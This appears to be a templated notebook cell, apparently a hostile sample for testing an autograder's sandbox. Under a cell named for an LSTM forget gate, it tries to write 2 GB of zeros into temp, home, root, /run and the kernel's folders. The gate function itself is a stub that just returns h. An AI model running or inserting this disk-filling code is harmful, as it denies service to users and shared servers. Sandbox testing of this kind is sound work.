"""Writes 2 GB, in steps of 16 MB, into the folders that it can write to.

Keeps: nothing.
"""

# %% forget_gate
import os
import tempfile

written = 0
folders = [
    "@TMP@",
    "@HOME@",
    os.getcwd(),
    tempfile.gettempdir(),
    "/dev/shm",
    "/var/tmp",
    "/run",
    "/",
]
folders += [os.path.dirname(get_ipython().kernel.config.IPKernelApp.connection_file or ".")]
if not os.path.exists("@COURSE@"):
    for folder in folders:
        try:
            with open(f"{folder}/left_by_an_attack", "wb") as file:
                while written < 2 << 30:
                    written += file.write(bytes(16 << 20))
        except OSError as error:
            print(folder, written >> 20, error)


def forget_gate(x, h, w_x, w_h, b):
    return h
